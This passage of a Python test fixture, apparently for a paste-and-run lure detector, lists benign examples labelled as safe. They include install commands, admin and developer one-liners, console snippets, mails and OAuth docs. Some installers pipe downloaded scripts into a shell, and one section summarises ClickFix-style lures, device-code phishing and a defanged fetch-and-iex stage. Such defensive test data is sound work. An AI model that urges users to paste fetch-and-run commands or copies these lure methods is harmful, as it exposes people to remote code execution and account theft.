    ("https://github.com/oras-project/oras", "brew install oras"),
    (
        "https://github.com/kata-containers/kata-containers",
        "sudo snap install kata-containers --stable --classic",
    ),
    ("https://github.com/virt-manager/virt-manager", "sudo apt install virt-manager"),
    ("https://github.com/ajeetdsouza/loxcraft", "cargo install loxcraft --locked"),
    ("https://github.com/faressoft/terminalizer", "npm install -g terminalizer"),
    ("https://github.com/sindresorhus/np", "npm install --global np"),
    ("https://github.com/walles/moar", "brew install moar"),
    ("https://github.com/Delgan/loguru", "pip install loguru"),
    ("https://github.com/python-attrs/attrs", "python -m pip install attrs"),
    ("https://github.com/sdispater/pendulum", "pip install pendulum"),
    ("https://github.com/Instagram/LibCST", "pip install libcst"),
    ("https://github.com/lepture/authlib", "pip install Authlib"),
    ("https://github.com/pyca/cryptography", "pip install cryptography"),
    ("https://github.com/paramiko/paramiko", "pip install paramiko"),
    ("https://github.com/redis/redis-py", "pip install redis"),
    ("https://github.com/psycopg/psycopg", 'pip install "psycopg[binary]"'),
    ("https://github.com/MagicStack/uvloop", "pip install uvloop"),
    ("https://github.com/ijl/orjson", "pip install --upgrade orjson"),
    ("https://github.com/yaml/pyyaml", "pip install pyyaml"),
    ("https://github.com/python-jsonschema/jsonschema", "pip install jsonschema"),
    ("https://github.com/marshmallow-code/marshmallow", "pip install -U marshmallow"),
    ("https://github.com/getsentry/sentry-python", "pip install --upgrade sentry-sdk"),
    ("https://github.com/joke2k/faker", "pip install Faker"),
    ("https://github.com/spulec/freezegun", "pip install freezegun"),
    ("https://github.com/getsentry/responses", "pip install responses"),
    ("https://github.com/nedbat/coveragepy", "python3 -m pip install coverage"),
    ("https://github.com/PyCQA/bandit", "pip install bandit"),
    ("https://github.com/pylint-dev/pylint", "pip install pylint"),
    ("https://github.com/hhatto/autopep8", "pip install --upgrade autopep8"),
    ("https://github.com/google/yapf", "pip install yapf"),
    ("https://github.com/jendrikseipp/vulture", "pip install vulture"),
    ("https://github.com/pyupio/safety", "pip install safety"),
    ("https://github.com/jazzband/pip-tools", "python -m pip install pip-tools"),
    ("https://github.com/pypa/twine", "pip install twine"),
    ("https://github.com/joerick/pyinstrument", "pip install pyinstrument"),
    ("https://github.com/pyutils/line_profiler", "pip install line_profiler"),
    ("https://github.com/gotcha/ipdb", "pip install ipdb"),
    ("https://github.com/prompt-toolkit/ptpython", "pip install ptpython"),
    ("https://github.com/bpython/bpython", "pip install bpython"),
    ("https://github.com/Textualize/rich-cli", "pipx install rich-cli"),
    ("https://github.com/jupyter/notebook", "pip install notebook"),
    ("https://github.com/vaexio/vaex", "pip install vaex"),
    ("https://github.com/modin-project/modin", 'pip install "modin[all]"'),
    ("https://github.com/tobymao/sqlglot", 'pip install "sqlglot[rs]"'),
    ("https://github.com/feast-dev/feast", "pip install feast"),
    ("https://github.com/bentoml/BentoML", "pip install -U bentoml"),
    ("https://github.com/jsvine/pdfplumber", "pip install pdfplumber"),
    ("https://github.com/pymupdf/PyMuPDF", "pip install --upgrade pymupdf"),
    ("https://github.com/python-openxml/python-docx", "pip install python-docx"),
    ("https://github.com/jmcnamara/XlsxWriter", "pip install XlsxWriter"),
    ("https://github.com/JaidedAI/EasyOCR", "pip install easyocr"),
    ("https://github.com/PaddlePaddle/PaddleOCR", "pip install paddleocr"),
    ("https://github.com/openai/tiktoken", "pip install tiktoken"),
    ("https://github.com/huggingface/trl", "pip install trl"),
    ("https://github.com/huggingface/smolagents", "pip install smolagents"),
    ("https://github.com/facebookresearch/faiss", "conda install -c pytorch faiss-cpu"),
    ("https://github.com/milvus-io/pymilvus", "pip install pymilvus"),
    ("https://github.com/cohere-ai/cohere-python", "pip install cohere"),
    ("https://github.com/mistralai/client-python", "pip install mistralai"),
    ("https://github.com/microsoft/semantic-kernel", "pip install semantic-kernel"),
    ("https://github.com/deepset-ai/haystack", "pip install haystack-ai"),
    ("https://github.com/microsoft/markitdown", "pip install 'markitdown[all]'"),
    ("https://github.com/unclecode/crawl4ai", "pip install -U crawl4ai && crawl4ai-setup"),
    ("https://github.com/browser-use/browser-use", "pip install browser-use"),
    ("https://github.com/facebookresearch/audiocraft", "python -m pip install -U audiocraft"),
    ("https://github.com/jiaaro/pydub", "pip install pydub"),
    ("https://github.com/Zulko/moviepy", "pip install moviepy"),
    ("https://github.com/imageio/imageio", "pip install imageio"),
    ("https://github.com/albumentations-team/albumentations", "pip install -U albumentations"),
    ("https://github.com/roboflow/supervision", "pip install supervision"),
    (
        "https://github.com/facebookresearch/detectron2",
        "python -m pip install 'git+https://github.com/facebookresearch/detectron2.git'",
    ),
    ("https://github.com/google/flax", "pip install flax"),
    ("https://github.com/google-deepmind/optax", "pip install optax"),
    ("https://github.com/pymc-devs/pymc", "pip install pymc"),
    ("https://github.com/stan-dev/cmdstanpy", "pip install cmdstanpy"),
    ("https://github.com/sktime/sktime", "pip install sktime"),
    ("https://github.com/unit8co/darts", "pip install darts"),
    ("https://github.com/geopandas/geopandas", "pip install geopandas"),
    ("https://github.com/shapely/shapely", "pip install shapely"),
    ("https://github.com/python-visualization/folium", "pip install folium"),
    ("https://github.com/pyproj4/pyproj", "pip install pyproj"),
    ("https://github.com/astropy/astropy", "python -m pip install astropy"),
    ("https://github.com/rdkit/rdkit", "pip install rdkit"),
    ("https://github.com/Qiskit/qiskit", "pip install qiskit"),
    ("https://github.com/PennyLaneAI/pennylane", "python -m pip install pennylane"),
    ("https://github.com/cvxpy/cvxpy", "pip install cvxpy"),
    ("https://github.com/coin-or/pulp", "python -m pip install pulp"),
    ("https://github.com/numba/numba", "pip install numba"),
    ("https://github.com/cython/cython", "pip install Cython"),
    ("https://github.com/PyO3/maturin", "pipx install maturin"),
    ("https://github.com/cupy/cupy", "pip install cupy-cuda12x"),
    ("https://github.com/solidiquis/erdtree", "cargo install erdtree"),
    ("https://github.com/bensadeh/tailspin", "cargo install tailspin"),
    ("https://github.com/crate-ci/typos", "cargo install typos-cli"),
    ("https://github.com/tamasfe/taplo", "cargo install taplo-cli --locked"),
    ("https://github.com/ast-grep/ast-grep", "cargo install ast-grep --locked"),
    ("https://github.com/crate-ci/cargo-release", "cargo install cargo-release"),
    (
        "https://github.com/obi1kenobi/cargo-semver-checks",
        "cargo install cargo-semver-checks --locked",
    ),
    ("https://github.com/RazrFalcon/cargo-bloat", "cargo install cargo-bloat"),
    ("https://github.com/dtolnay/cargo-expand", "cargo install cargo-expand"),
    ("https://github.com/kbknapp/cargo-outdated", "cargo install --locked cargo-outdated"),
    (
        "https://github.com/MitMaro/git-interactive-rebase-tool",
        "cargo install --locked git-interactive-rebase-tool",
    ),
    (
        "https://github.com/ankitpokhrel/jira-cli",
        "go install github.com/ankitpokhrel/jira-cli/cmd/jira@latest",
    ),
    (
        "https://github.com/editorconfig-checker/editorconfig-checker",
        "go install github.com/editorconfig-checker/editorconfig-checker/v3/cmd/editorconfig-checker@latest",
    ),
    (
        "https://github.com/oapi-codegen/oapi-codegen",
        "go install github.com/oapi-codegen/oapi-codegen/v2/cmd/oapi-codegen@latest",
    ),
    ("https://github.com/mgechev/revive", "go install github.com/mgechev/revive@latest"),
    ("https://github.com/mvdan/gofumpt", "go install mvdan.cc/gofumpt@latest"),
    ("https://github.com/vektra/mockery", "go install github.com/vektra/mockery/v2@v2.50.0"),
    (
        "https://github.com/goreleaser/nfpm",
        "go install github.com/goreleaser/nfpm/v2/cmd/nfpm@latest",
    ),
    ("https://github.com/maaslalani/invoice", "go install github.com/maaslalani/invoice@main"),
    ("https://github.com/charmbracelet/pop", "go install github.com/charmbracelet/pop@latest"),
    ("https://github.com/charmbracelet/skate", "go install github.com/charmbracelet/skate@latest"),
    ("https://github.com/dlvhdr/gh-dash", "gh extension install dlvhdr/gh-dash"),
    ("https://github.com/github/gh-copilot", "gh extension install github/gh-copilot"),
    ("https://github.com/wtfutil/wtf", "brew install wtfutil"),
    (
        "https://github.com/xxxserxxx/gotop",
        "go install github.com/xxxserxxx/gotop/v4/cmd/gotop@latest",
    ),
    ("https://github.com/orhun/systeroid", "cargo install systeroid"),
    ("https://github.com/orhun/gpg-tui", "cargo install gpg-tui"),
    ("https://github.com/orhun/daktilo", "cargo install daktilo"),
    ("https://github.com/orhun/halp", "cargo install halp"),
    ("https://github.com/orhun/menyoki", "cargo install menyoki"),
    ("https://github.com/Builditluc/wiki-tui", "cargo install wiki-tui"),
    ("https://github.com/Spotifyd/spotifyd", "cargo install spotifyd --locked"),
    ("https://github.com/tramhao/termusic", "cargo install termusic termusic-server --locked"),
    ("https://github.com/hrkfdn/ncspot", "cargo install ncspot"),
    ("https://github.com/Y2Z/monolith", "cargo install monolith"),
    ("https://github.com/kdheepak/taskwarrior-tui", "cargo install taskwarrior-tui"),
    ("https://github.com/mps-youtube/yewtube", "pip install yewtube"),
    ("https://github.com/http-party/http-server", "npm install --global http-server"),
    ("https://github.com/remy/nodemon", "npm install -g nodemon"),
    ("https://github.com/foreversd/forever", "npm install forever -g"),
    ("https://github.com/typicode/json-server", "npm install json-server"),
    ("https://github.com/depcheck/depcheck", "npm install -g depcheck"),
    ("https://github.com/GoogleChrome/lighthouse", "npm install -g lighthouse"),
    ("https://github.com/svg/svgo", "npm install -g svgo"),
    ("https://github.com/postcss/postcss", "npm install --save-dev postcss postcss-cli"),
    ("https://github.com/stylelint/stylelint", "npm init stylelint"),
    ("https://github.com/DavidAnson/markdownlint-cli2", "npm install markdownlint-cli2 --global"),
    ("https://github.com/commitizen/cz-cli", "npm install -g commitizen"),
    ("https://github.com/lint-staged/lint-staged", "npm install --save-dev lint-staged"),
    ("https://github.com/release-it/release-it", "npm init release-it"),
    ("https://github.com/plopjs/plop", "npm install --save-dev plop"),
    (
        "https://github.com/mui/material-ui",
        "npm install @mui/material @emotion/react @emotion/styled",
    ),
    ("https://github.com/TanStack/query", "npm i @tanstack/react-query"),
    ("https://github.com/pmndrs/zustand", "npm install zustand"),
    ("https://github.com/reduxjs/redux-toolkit", "npm install @reduxjs/toolkit"),
    ("https://github.com/lodash/lodash", "npm i --save lodash"),
    ("https://github.com/date-fns/date-fns", "npm install date-fns --save"),
    ("https://github.com/socketio/socket.io", "npm install socket.io"),
    ("https://github.com/websockets/ws", "npm install ws"),
    ("https://github.com/pixijs/pixijs", "npm install pixi.js"),
    ("https://github.com/phaserjs/phaser", "npx create-phaser-game@latest"),
    ("https://github.com/d3/d3", "npm install d3"),
    ("https://github.com/chartjs/Chart.js", "npm install chart.js"),
    ("https://github.com/apache/echarts", "npm install echarts --save"),
    (
        "https://github.com/react-native-community/cli",
        "npx @react-native-community/cli@latest init AwesomeProject",
    ),
    ("https://github.com/preactjs/preact", "npm init preact"),
    ("https://github.com/alpinejs/alpine", "npm install alpinejs"),
    ("https://github.com/bigskysoftware/htmx", "npm install htmx.org@2.0.4"),
    ("https://github.com/docsifyjs/docsify", "npm i docsify-cli -g"),
    (
        "https://github.com/hakimel/reveal.js",
        "git clone https://github.com/hakimel/reveal.js.git && cd reveal.js && npm install",
    ),
    ("https://github.com/verdaccio/verdaccio", "npm install --location=global verdaccio"),
    ("https://github.com/usebruno/bruno", "npm install -g @usebruno/cli"),
    ("https://github.com/postmanlabs/newman", "npm install -g newman"),
    ("https://github.com/stoplightio/spectral", "npm install -g @stoplight/spectral-cli"),
    (
        "https://github.com/OpenAPITools/openapi-generator",
        "npm install @openapitools/openapi-generator-cli -g",
    ),
    ("https://github.com/asyncapi/cli", "npm install -g @asyncapi/cli"),
    (
        "https://github.com/apollographql/rover",
        "curl -sSL https://rover.apollo.dev/nix/latest | sh",
    ),
    ("https://github.com/trpc/trpc", "npm install @trpc/server @trpc/client"),
    ("https://github.com/tw93/Pake", "pnpm install -g pake-cli"),
    ("https://github.com/Clipy/Clipy", "brew install --cask clipy"),
    ("https://github.com/Caldis/Mos", "brew install --cask mos"),
    (
        "https://github.com/hluk/CopyQ",
        "sudo add-apt-repository ppa:hluk/copyq && sudo apt update && sudo apt install copyq",
    ),
    (
        "https://github.com/lutris/lutris",
        "sudo add-apt-repository ppa:lutris-team/lutris && sudo apt update && sudo apt install lutris",
    ),
    ("https://github.com/bottlesdevs/Bottles", "flatpak install flathub com.usebottles.bottles"),
    ("https://github.com/flightlessmango/MangoHud", "sudo apt install mangohud"),
    (
        "https://github.com/Heroic-Games-Launcher/HeroicGamesLauncher",
        "flatpak install flathub com.heroicgameslauncher.hgl",
    ),
    ("https://github.com/libretro/RetroArch", "flatpak install flathub org.libretro.RetroArch"),
    ("https://github.com/wwmm/easyeffects", "flatpak install flathub com.github.wwmm.easyeffects"),
    (
        "https://github.com/vinceliuice/WhiteSur-gtk-theme",
        "git clone https://github.com/vinceliuice/WhiteSur-gtk-theme.git --depth=1 && cd WhiteSur-gtk-theme && ./install.sh",
    ),
    ("https://github.com/swaywm/sway", "sudo apt install sway"),
    ("https://github.com/i3/i3", "sudo apt install i3"),
    ("https://github.com/davatorium/rofi", "sudo apt install rofi"),
    ("https://github.com/Alexays/Waybar", "sudo apt install waybar"),
    ("https://github.com/yshui/picom", "sudo apt install picom"),
    (
        "https://github.com/Jguer/yay",
        "pacman -S --needed git base-devel && git clone https://aur.archlinux.org/yay.git && cd yay && makepkg -si",
    ),
    (
        "https://github.com/AdnanHodzic/auto-cpufreq",
        "git clone https://github.com/AdnanHodzic/auto-cpufreq.git && cd auto-cpufreq && sudo ./auto-cpufreq-installer",
    ),
    ("https://github.com/TwiN/gatus", "docker run -p 8080:8080 --name gatus twinproduction/gatus"),
    ("https://github.com/binwiederhier/ntfy", "docker run -p 80:80 -it binwiederhier/ntfy serve"),
    (
        "https://github.com/actualbudget/actual",
        "docker run --pull=always --restart=unless-stopped -d -p 5006:5006 -v /srv/actual:/data --name my_actual_budget actualbudget/actual-server:latest",
    ),
    (
        "https://github.com/sissbruecker/linkding",
        'docker run --name linkding -p 9090:9090 -v "$(pwd)/data:/etc/linkding/data" -d sissbruecker/linkding:latest',
    ),
    (
        "https://github.com/silverbulletmd/silverbullet",
        "docker run -p 3000:3000 -v myspace:/space ghcr.io/silverbulletmd/silverbullet",
    ),
    (
        "https://github.com/dgtlmoon/changedetection.io",
        'docker run -d --restart always -p "127.0.0.1:5000:5000" -v datastore-volume:/datastore --name changedetection.io dgtlmoon/changedetection.io',
    ),
    (
        "https://github.com/langfuse/langfuse",
        "git clone https://github.com/langfuse/langfuse.git && cd langfuse && docker compose up",
    ),
    ("https://github.com/Arize-ai/phoenix", "pip install arize-phoenix"),
]
for page, command in OWN_PAGES:
    ok(OWN, TERM, page, command)

# --- Installers quoted in OTHER projects' READMEs (the README says: first install X) ------------

THIRD = "installer-third-party"
for page, command in [
    (
        "https://github.com/gluesql/gluesql",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal && cargo build --release",
    ),
    (
        "https://github.com/pola-rs/pyo3-polars",
        "curl -LsSf https://astral.sh/uv/install.sh | sh && uv sync --all-extras",
    ),
    (
        "https://github.com/honojs/examples",
        "curl -fsSL https://bun.sh/install | bash && bun install && bun run dev",
    ),
    ("https://github.com/calcom/cal.com", "npm install -g pnpm@9 && pnpm install && pnpm dev"),
    (
        "https://github.com/excalidraw/excalidraw-libraries",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash && nvm install 20 && npm ci",
    ),
    (
        "https://github.com/Homebrew/homebrew-cask-fonts",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" && brew install --cask font-fira-code',
    ),
    (
        "https://github.com/facebook/react-native-website",
        "brew install watchman && yarn install && yarn start",
    ),
    (
        "https://github.com/tree-sitter/tree-sitter-python",
        "cargo install --locked tree-sitter-cli && tree-sitter generate && tree-sitter test",
    ),
    (
        "https://github.com/PyO3/pyo3-ffi-example",
        "pipx install maturin && maturin develop --release",
    ),
    (
        "https://github.com/zed-industries/extensions",
        "curl https://sh.rustup.rs -sSf | sh && rustup target add wasm32-wasip1",
    ),
    (
        "https://github.com/astral-sh/ruff-vscode",
        "curl -LsSf https://astral.sh/uv/install.sh | sh && uv sync && npm ci && npm run compile",
    ),
    (
        "https://github.com/oven-sh/bun-plugin-svelte",
        'curl -fsSL https://bun.sh/install | bash -s "bun-v1.1.38"',
    ),
    (
        "https://github.com/withastro/starlight",
        "npm install -g pnpm && pnpm i && pnpm --filter starlight-docs dev",
    ),
    (
        "https://github.com/NixOS/nixos-hardware",
        "sh <(curl -L https://nixos.org/nix/install) --no-daemon && nix-channel --add https://github.com/NixOS/nixos-hardware/archive/master.tar.gz nixos-hardware",
    ),
    (
        "https://github.com/kubernetes-sigs/kubebuilder",
        "go install sigs.k8s.io/kind@latest && kind create cluster --name kubebuilder-test",
    ),
    (
        "https://github.com/microsoft/vscode-python",
        "python -m pip install nox && npm ci && nox --session install_python_libs",
    ),
    ("https://github.com/ScoopInstaller/Extras", "irm get.scoop.sh | iex; scoop bucket add extras"),
    (
        "https://github.com/microsoft/winget-pkgs",
        "winget install --id Microsoft.WingetCreate -e; wingetcreate new",
    ),
    (
        "https://github.com/lapce/lapce-plugins",
        "rustup target add wasm32-wasi && cargo build --release --target wasm32-wasi",
    ),
    (
        "https://github.com/grafana/k6-example-scripts",
        "docker pull grafana/k6 && docker run --rm -i grafana/k6 run - <script.js",
    ),
    (
        "https://github.com/projectdiscovery/nuclei-templates",
        "go install -v github.com/projectdiscovery/nuclei/v3/cmd/nuclei@latest && nuclei -update-templates",
    ),
]:
    ok(THIRD, TERM, page, command)

# --- Admin commands (intranet wikis, runbooks, vendor KBs) --------------------------------------

ADMIN = "admin-command"
for page, target, command in [
    (
        "https://wiki.corp-it.example/windows/gpo",
        TERM,
        "gpupdate /force; gpresult /h $env:USERPROFILE\\Desktop\\gp.html",
    ),
    (
        "https://wiki.corp-it.example/windows/network",
        TERM,
        "Get-NetAdapter | Where-Object Status -eq 'Up' | Get-NetIPConfiguration",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/restart-service",
        TERM,
        "Restart-Service -Name Spooler -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        TERM,
        "robocopy D:\\Projects \\\\nas01\\backup\\Projects /MIR /R:2 /W:5 /LOG:C:\\Logs\\robocopy.log",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/wsl/basic-commands",
        TERM,
        "wsl --update; wsl --shutdown; wsl -l -v",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-server/networking/netsh-winsock-reset",
        TERM,
        "netsh winsock reset; netsh int ip reset; ipconfig /release; ipconfig /renew",
    ),
    (
        "https://runbooks.ops-team.example/linux/journal",
        TERM,
        "sudo journalctl --vacuum-time=7d && sudo journalctl --disk-usage",
    ),
    (
        "https://runbooks.ops-team.example/linux/nginx",
        TERM,
        "sudo nginx -t && sudo systemctl reload nginx",
    ),
    ("https://runbooks.ops-team.example/linux/certbot", TERM, "sudo certbot renew --dry-run"),
    ("https://runbooks.ops-team.example/linux/ports", TERM, "sudo ss -tulpn | grep LISTEN"),
    (
        "https://runbooks.ops-team.example/linux/users",
        TERM,
        "sudo useradd -m -s /bin/bash -G sudo deploy && sudo passwd -e deploy",
    ),
    (
        "https://runbooks.ops-team.example/linux/ufw",
        TERM,
        "sudo ufw allow OpenSSH && sudo ufw allow 443/tcp && sudo ufw enable",
    ),
    (
        "https://runbooks.ops-team.example/k8s/drain",
        TERM,
        "kubectl drain node-07 --ignore-daemonsets --delete-emptydir-data",
    ),
    (
        "https://runbooks.ops-team.example/postgres/backup",
        TERM,
        "pg_dump -Fc -h db01 -U app appdb > appdb_$(date +%F).dump",
    ),
    ("https://wiki.corp-it.example/macos/spotlight", TERM, "sudo mdutil -E /"),
    ("https://wiki.corp-it.example/macos/xcode", TERM, "xcode-select --install"),
    ("https://wiki.corp-it.example/macos/launchd", TERM, "launchctl list | grep -i corp"),
]:
    ok(ADMIN, target, page, command)

# --- Developer one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for page, command in [
    (
        "https://stackoverflow.com/questions/927358",
        "git commit --amend --no-edit && git push --force-with-lease",
    ),
    ("https://stackoverflow.com/questions/3258243", "git worktree add ../hotfix-2.4 release/2.4"),
    (
        "https://stackoverflow.com/questions/20096240",
        "docker compose logs -f --tail=200 api worker",
    ),
    (
        "https://stackoverflow.com/questions/30604846",
        "docker exec -it pg16 psql -U postgres -c 'SELECT version();'",
    ),
    (
        "https://stackoverflow.com/questions/16151018",
        "rsync -avz --progress --exclude '.git' ./site/ deploy@web01:/var/www/site/",
    ),
    (
        "https://stackoverflow.com/questions/1951506",
        "awk -F, 'NR>1 {sum+=$3} END {print sum}' sales_2026.csv",
    ),
    (
        "https://stackoverflow.com/questions/6174220",
        "python -m venv .venv && . .venv/bin/activate && pip install -r requirements-dev.txt",
    ),
    (
        "https://stackoverflow.com/questions/41711929",
        "Get-FileHash .\\setup-3.2.1.exe -Algorithm SHA256",
    ),
    (
        "https://stackoverflow.com/questions/17616045",
        "kubectl port-forward svc/grafana 3000:80 -n monitoring",
    ),
    (
        "https://stackoverflow.com/questions/4114095",
        "git log --oneline --graph --decorate --all -20",
    ),
    ("https://stackoverflow.com/questions/5410757", "sed -i 's/\\r$//' deploy.sh"),
    (
        "https://stackoverflow.com/questions/15715912",
        "curl -s https://api.github.com/repos/python/cpython/releases/latest | jq -r .tag_name",
    ),
    (
        "https://stackoverflow.com/questions/3510573",
        "echo '" + b64('{"alg":"HS256","typ":"JWT"}') + "' | base64 -d",
    ),
    (
        "https://stackoverflow.com/questions/1146973",
        "ssh-keygen -t ed25519 -C 'me@laptop' && cat ~/.ssh/id_ed25519.pub",
    ),
    (
        "https://stackoverflow.com/questions/10753288",
        'for f in *.png; do convert "$f" -resize 50% "small_$f"; done',
    ),
    (
        "https://stackoverflow.com/questions/17977840",
        "tar -czvf backup-$(date +%Y%m%d).tar.gz --exclude=node_modules ./app",
    ),
    (
        "https://stackoverflow.com/questions/8967902",
        "Get-ChildItem -Recurse -Filter *.log | Remove-Item -WhatIf",
    ),
    ("https://stackoverflow.com/questions/11696944", "Get-Content .\\app.log -Tail 50 -Wait"),
    (
        "https://stackoverflow.com/questions/19806945",
        "git config --global core.autocrlf input && git config --global pull.rebase true",
    ),
]:
    ok(DEV, TERM, page, command)

# --- Console snippets ----------------------------------------------------------------------------

CONSOLE = "console-snippet"
for page, command in [
    (
        "https://developer.chrome.com/docs/devtools/console/reference",
        "$$('h2').map(h => h.textContent.trim())",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/getComputedStyle",
        "getComputedStyle(document.body).fontFamily",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#monitorEvents-function",
        "monitorEvents(window, 'resize')",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify([...document.querySelectorAll('a')].map(a => a.href), null, 2))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/api",
        "console.table([...document.images].map(i => ({src: i.src, w: i.naturalWidth})))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "await (await fetch('/api/health')).json()",
    ),
    (
        "https://web.dev/articles/cls",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log(e))).observe({type: 'layout-shift', buffered: true})",
    ),
]:
    ok(CONSOLE, CON, page, command)

# --- Security write-ups quoting lures (defanged or described) -------------------------------------

PROSE = "prose-security"
for page, text in [
    (
        "https://blog.sec-research.example/clickfix-2026",
        "The page tells visitors to press Win+R, paste and press Enter. The clipboard held a PowerShell line that fetched a second stage from hxxps://stage[.]example and ran it with iex. Block the Run dialog for standard users where you can.",
    ),
    (
        "https://blog.sec-research.example/filefix",
        "FileFix variants ask the user to paste a 'file path' into the Explorer address bar; the real command sits in front of a long run of spaces so only the fake path is visible.",
    ),
    (
        "https://blog.sec-research.example/macos-stealers",
        "Atomic-style campaigns use fake download pages that instruct users to open Terminal and paste a one-liner; the script prompts for the login password with osascript and then harvests browser data and keychains.",
    ),
    (
        "https://blog.sec-research.example/consentfix",
        "In ConsentFix, the victim signs in to a real Microsoft page and is then asked to copy the localhost URL from the address bar, which contains an authorization code the attacker redeems.",
    ),
    (
        "https://blog.sec-research.example/device-code",
        "Device code phishing abuses the legitimate OAuth device flow: the attacker sends a code and a real microsoft.com/devicelogin link, and the victim's sign-in grants the attacker's session tokens.",
    ),
    (
        "https://blog.sec-research.example/kongtuke",
        "KongTuke injects a script into compromised WordPress sites which shows a fake CAPTCHA; the copied command contacts a TDS endpoint with a device parameter before delivering the payload.",
    ),
    (
        "https://blog.sec-research.example/discord-scams",
        "Discord 'verification' servers ask members to paste code into the browser console. Never paste anything into DevTools that someone sent you; it can read your token.",
    ),
    (
        "https://blog.sec-research.example/hunting",
        "Hunting tip: look for explorer.exe spawning powershell.exe or mshta.exe within seconds of a RunMRU registry write; that sequence is typical of paste-and-run lures.",
    ),
    (
        "https://blog.sec-research.example/etherhiding",
        "EtherHiding stores the next stage in a smart contract; the injected script queries a public RPC node with eth_call and decodes the returned bytes, so there is no fixed download URL to block.",
    ),
    (
        "https://blog.sec-research.example/callback",
        "Callback phishing emails contain no links at all, only an invoice and a phone number; the 'agent' then guides the victim to install remote-access software.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine messages with phone numbers (the 13 languages) -------------------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://mail.example/inbox/1",
        "Hi Sam, your appointment with Dr. Patel is confirmed for Tuesday 10:30. To reschedule, call the front desk on +1 (312) 555-0148. See you then!",
    ),
    (
        "https://mail.example/inbox/2",
        "Hallo Frau Berger, Ihr Paket wird morgen zwischen 9 und 13 Uhr zugestellt. Bei Fragen erreichen Sie uns unter 030 5550 1234. Freundliche Grüße, Ihr Kundenservice",
    ),
    (
        "https://mail.example/inbox/3",
        "Bonjour, votre réservation au restaurant Le Lilas est confirmée pour samedi à 20h, 4 personnes. Pour toute modification : 04 55 50 12 33.",
    ),
    (
        "https://mail.example/inbox/4",
        "Hola Marta, tu cita en el taller está confirmada para el jueves a las 9:00. Si no puedes venir, llámanos al 912 555 078.",
    ),
    (
        "https://mail.example/inbox/5",
        "Ciao Luca, la riunione di condominio è spostata a lunedì alle 18. Per info chiama l'amministratore al 02 5550 4411.",
    ),
    (
        "https://mail.example/inbox/6",
        "Olá João, o seu pedido #4471 foi enviado. Qualquer dúvida, fale connosco pelo 21 555 0190 (dias úteis, 9h-18h).",
    ),
    (
        "https://mail.example/inbox/7",
        "Beste Anne, uw afspraak bij de tandarts is verplaatst naar woensdag 14:15. Bel 020 555 0136 als dit niet uitkomt.",
    ),
    (
        "https://mail.example/inbox/8",
        "Dzień dobry, przypominamy o wizycie serwisowej w piątek o 10:00. W razie pytań prosimy o kontakt: 22 555 01 77.",
    ),
    (
        "https://mail.example/inbox/9",
        "Merhaba Ayşe Hanım, siparişiniz yarın teslim edilecektir. Sorularınız için 0212 555 0164 numarasından bize ulaşabilirsiniz.",
    ),
    (
        "https://mail.example/inbox/10",
        "Здравствуйте! Ваш заказ №5521 готов к выдаче в пункте на ул. Садовой. Телефон пункта: +7 495 555-01-29.",
    ),
    (
        "https://mail.example/inbox/11",
        "山田様 ご予約ありがとうございます。12月14日 18:00、2名様でお待ちしております。変更の際は 03-5555-0142 までご連絡ください。",
    ),
    (
        "https://mail.example/inbox/12",
        "王先生您好，您的体检预约已确认：12月9日上午8点。如需改期请致电 010-5555-0118。",
    ),
    (
        "https://mail.example/inbox/13",
        "مرحبًا أحمد، تم تأكيد موعد صيانة المكيف يوم الأحد الساعة 11 صباحًا. للاستفسار اتصل على 04 555 0139.",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and device-flow documentation ----------------------------------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "The device code flow lets users sign in to input-constrained devices. The app displays a user_code and a verification_uri such as https://microsoft.com/devicelogin; the user enters the code on another device.",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "POST https://github.com/login/device/code with client_id and scope; GitHub responds with device_code, user_code, verification_uri and interval.",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252",
        "Loopback redirect: http://127.0.0.1:{port}/callback. The authorization server MUST allow any port to be specified at the time of the request for loopback IP redirect URIs.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "After the user grants access, the server redirects to http://127.0.0.1:port?code=4/P7q7W91a-oMsCeLvIaQm6bTrgtp7&scope=email — your app exchanges this code for tokens; never ask users to paste it elsewhere.",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --use-device-code   # opens no browser; prints a code to enter at https://microsoft.com/devicelogin",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "gh auth login --web   # copy the one-time code shown, then press Enter to open github.com in your browser",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Run box and Explorer bar entries with arguments ----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "msinfo32 /nfo %USERPROFILE%\\Desktop\\inventar.nfo",
    "rundll32.exe shell32.dll,Control_RunDLL mmsys.cpl,,1",
    "explorer shell:::{21EC2020-3AEA-1069-A2DD-08002B30309D}",
    "cleanmgr /d D: /sagerun:7",
    "mstsc /v:ts02.corp.example /w:1600 /h:900",
    "excel /r \\\\fileserver01\\Finance\\Budget_2027.xlsx",
    "outlook /safe:1",
    "wmplayer /prefetch:1",
    "odbcad32",
    "taskschd.msc /s",
    "ms-settings:display-advanced",
    "mmc diskmgmt.msc",
